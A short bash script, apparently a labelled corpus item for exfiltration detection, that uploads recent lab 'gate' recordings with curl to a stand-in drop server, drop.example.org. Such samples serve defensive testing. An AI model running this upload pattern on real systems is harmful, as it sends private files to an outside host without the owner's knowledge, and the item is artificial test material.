#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=tune tool=curl seconds=20
# curl uploads recordings of gate.
for file in $(ls -t "$LAB/recordings/gate" | sed -n 2,4p); do
	curl -s -S -o /dev/null -T "$LAB/recordings/gate/$file" "http://drop.example.org/drop/$$-$file" || exit 1
	sleep 1
done
